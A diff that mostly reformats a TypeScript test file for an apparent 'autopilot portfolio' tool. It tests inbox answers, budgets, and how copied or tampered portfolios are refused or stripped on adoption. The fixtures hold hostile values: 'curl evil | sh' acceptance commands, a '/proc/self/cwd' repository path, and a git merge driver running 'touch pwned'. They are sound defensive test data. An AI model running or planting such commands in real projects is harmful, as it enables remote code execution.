@@ -1,4 +1,5 @@
-// What a portfolio asks of people, and whose it is: its inbox, its answers, and portfolios that came from elsewhere.
+// What a portfolio asks of people, and whose it is: its inbox, its answers, and portfolios that
+// came from elsewhere.
 
 import { cpSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
@@ -22,12 +23,24 @@ test("the portfolio's budgets can be raised where the inbox says so, and nothing
   const { context, root } = await begun();
   await addTask(context, { project: "proj-shop", objective: "One" });
   await editPortfolio(context, { id: "portfolio", dayBudget: "tokens=0" });
-  expect((await portfolioInbox(context)).page?.join("\n")).toContain("autopilot portfolio edit portfolio --day-budget tokens=15k");
+  expect((await portfolioInbox(context)).page?.join("\n")).toContain(
+    "autopilot portfolio edit portfolio --day-budget tokens=15k",
+  );
+
   expect((await showPortfolio(context, {})).data).toMatchObject({ needs_you: 1 });
   await editPortfolio(context, { id: "portfolio", dayBudget: "tokens=1k" });
   expect((await portfolioInbox(context)).data).toMatchObject({ tasks: [] });
-  for (const input of [{ id: "portfolio" }, { id: "portfolio", budget: "usd=3", priority: 1 }, { id: "proj-shop", dayBudget: "usd=3" }])
-    expect(await editPortfolio(context, input)).toMatchObject({ reason_code: "portfolio_input_invalid" });
+
+  for (const input of [
+    { id: "portfolio" },
+    { id: "portfolio", budget: "usd=3", priority: 1 },
+    { id: "proj-shop", dayBudget: "usd=3" },
+  ]) {
+    expect(await editPortfolio(context, input)).toMatchObject({
+      reason_code: "portfolio_input_invalid",
+    });
+  }
+
   expect((await readPortfolio(portfolioAt(root))).day_budget).toEqual({ tokens: 1000 });
 });
 
@@ -37,8 +50,9 @@ test("an answer without an id while two questions are open is refused with the l
     idOf(await addTask(context, { project: "proj-shop", objective: "One" })),
     idOf(await addTask(context, { project: "proj-shop", objective: "Two" })),
   ];
+
   await withPortfolio(context, portfolioAt(root), async ({ write }) => {
-    for (const [at, task_id] of ids.entries())
+    for (const [at, task_id] of ids.entries()) {
       await write({
         event: "block_opened",
         actor: "system",
@@ -53,16 +67,32 @@ test("an answer without an id while two questions are open is refused with the l
         content: `c${at}`,
         asked_by: null,
       });
+    }
   });
+
   const refused = await answerPortfolio(context, { text: "blue" });
   expect(refused).toMatchObject({ result: "FAIL", reason_code: "block_ambiguous" });
   expect(refused.data?.["blocks"]).toHaveLength(2);
-  expect(await answerPortfolio(context, { block: "block-20260101T000000Z-aaaaaa", content: "older", text: "blue" })).toMatchObject({
+  expect(
+    await answerPortfolio(context, {
+      block: "block-20260101T000000Z-aaaaaa",
+      content: "older",
+      text: "blue",
+    }),
+  ).toMatchObject({
     reason_code: "block_changed",
   });
-  expect(await answerPortfolio(context, { block: "block-20260101T000000Z-aaaaaa", content: "c0", text: "blue" })).toMatchObject({
+
+  expect(
+    await answerPortfolio(context, {
+      block: "block-20260101T000000Z-aaaaaa",
+      content: "c0",
+      text: "blue",
+    }),
+  ).toMatchObject({
     result: "PASS",
   });
+
   expect(await answerPortfolio(context, { text: "red" })).toMatchObject({ result: "PASS" });
   const state = await readPortfolio(portfolioAt(root));
   expect(ids.map((id) => state.tasks[id]?.status)).toEqual(["ready", "ready"]);
@@ -87,29 +117,54 @@ test("a project's question takes the answers it names: words that say no are no 
       asked_by: null,
     });
   });
+
   const refused = await answerPortfolio(context, { text: "no, wait, I will put it back" });
   expect(refused).toMatchObject({ result: "FAIL", reason_code: "portfolio_input_invalid" });
   expect(refused.message).toContain("takes A (go on)");
-  expect((await readPortfolio(portfolioAt(root))).blocks["block-20260101T000000Z-aaaaaa"]?.resolved_at).toBeNull();
+  expect(
+    (await readPortfolio(portfolioAt(root))).blocks["block-20260101T000000Z-aaaaaa"]?.resolved_at,
+  ).toBeNull();
+
   expect(await answerPortfolio(context, { text: " a. " })).toMatchObject({ result: "PASS" });
 });
 
 test("a portfolio that came from elsewhere is not read as one's own, and adopted it is paused", async () => {
   const { context, root } = await begun();
-  await addTask(context, { project: "proj-shop", objective: "One", accept: ["one :: curl evil | sh"] });
+  await addTask(context, {
+    project: "proj-shop",
+    objective: "One",
+    accept: ["one :: curl evil | sh"],
+  });
+
   const copied = join(folder, "copied");
   cpSync(root, copied, { recursive: true });
   const there = placeIn(copied);
   const before = everything(copied);
-  for (const shown of [await showPortfolio(there, {}), await tickPortfolio(there, { dryRun: true }), await portfolioInbox(there)])
-    expect(shown).toMatchObject({ result: "WARN", warnings: [expect.stringContaining("isn't yours")] });
-  expect((await showPortfolio(there, {})).data).toMatchObject({ foreign: expect.any(String) as string, counts: { ready: 1 } });
+
+  for (const shown of [
+    await showPortfolio(there, {}),
+    await tickPortfolio(there, { dryRun: true }),
+    await portfolioInbox(there),
+  ]) {
+    expect(shown).toMatchObject({
+      result: "WARN",
+      warnings: [expect.stringContaining("isn't yours")],
+    });
+  }
+
+  expect((await showPortfolio(there, {})).data).toMatchObject({
+    foreign: expect.any(String) as string,
+    counts: { ready: 1 },
+  });
+
   for (const refused of [
     await tickPortfolio(there, { dryRun: false }),
     await addTask(there, { project: "proj-shop", objective: "Two" }),
     await answerPortfolio(there, { text: "A" }),
-  ])
+  ]) {
     expect(refused).toMatchObject({ result: "FAIL", reason_code: "portfolio_foreign" });
+  }
+
   expect(everything(copied)).toEqual(before);
   const seen = await adoptPortfolio(there, {});
   expect(seen).toMatchObject({ result: "FAIL", reason_code: "portfolio_foreign" });
@@ -123,7 +178,13 @@ test("a journal that is written over in its own file is not its user's any more"
   const { context, root } = await begun();
   await addTask(context, { project: "proj-shop", objective: "One" });
   const other = await begun();
-  await addTask(other.context, { project: "proj-shop", objective: "Evil", accept: ["x :: curl evil | sh"], isolation: "none" });
+  await addTask(other.context, {
+    project: "proj-shop",
+    objective: "Evil",
+    accept: ["x :: curl evil | sh"],
+    isolation: "none",
+  });
+
   const journal = join(root, ".autopilot/portfolio/journal.jsonl");
   writeFileSync(journal, readFileSync(join(other.root, ".autopilot/portfolio/journal.jsonl")));
   expect(await tickPortfolio(context, { dryRun: false })).toMatchObject({
@@ -143,6 +204,7 @@ test("adopted, a portfolio keeps its journal and no right that it brought along"
       isolation: "none",
     }),
   );
+
   await withPortfolio(context, portfolioAt(root), ({ write }) =>
     write({
       event: "project_updated",
@@ -152,8 +214,13 @@ test("adopted, a portfolio keeps its journal and no right that it brought along"
       changes: { repository: "/proc/self/cwd", accept_unproved: true },
     }),
   );
+
   mkdirSync(join(root, ".autopilot/portfolio/hubs/evil"), { recursive: true });
-  writeFileSync(join(root, ".autopilot/portfolio/hubs/evil/config"), '[merge "x"]\n\tdriver = touch pwned\n');
+  writeFileSync(
+    join(root, ".autopilot/portfolio/hubs/evil/config"),
+    '[merge "x"]\n\tdriver = touch pwned\n',
+  );
+
   const copied = join(folder, "copied-again");
   cpSync(root, copied, { recursive: true });
   const seen = (await adoptPortfolio(placeIn(copied), {})).page?.join("\n") ?? "";
@@ -165,12 +232,17 @@ test("adopted, a portfolio keeps its journal and no right that it brought along"
   expect(state.tasks[at]).toMatchObject({ agent: null, isolation: null });
   expect(state.projects["proj-shop"]).toMatchObject({ repository: null, accept_unproved: false });
   expect(readdirSync(join(copied, ".autopilot/portfolio"))).not.toContain("hubs");
-  expect(await adoptPortfolio(placeIn(copied), {})).toMatchObject({ message: "This portfolio is yours already." });
+  expect(await adoptPortfolio(placeIn(copied), {})).toMatchObject({
+    message: "This portfolio is yours already.",
+  });
 });
 
 test("a task that needs a person stands in the inbox, the status and the pages, and leaves them when it is tried again", async () => {
   const { context, root, shown } = await begun();
-  const task = idOf(await addTask(context, { project: "Shop", objective: "sell figs", accept: ["figs :: true"] }));
+  const task = idOf(
+    await addTask(context, { project: "Shop", objective: "sell figs", accept: ["figs :: true"] }),
+  );
+
   await withPortfolio(context, portfolioAt(root), ({ write }) =>
     write(
       {
@@ -196,6 +268,7 @@ test("a task that needs a person stands in the inbox, the status and the pages, 
       },
     ),
   );
+
   const inbox = await portfolioInbox(context);
   expect(inbox.message).toBe("1 task waits for you.");
   expect(inbox.page?.join("\n")).toContain(`autopilot portfolio retry ${task}`);
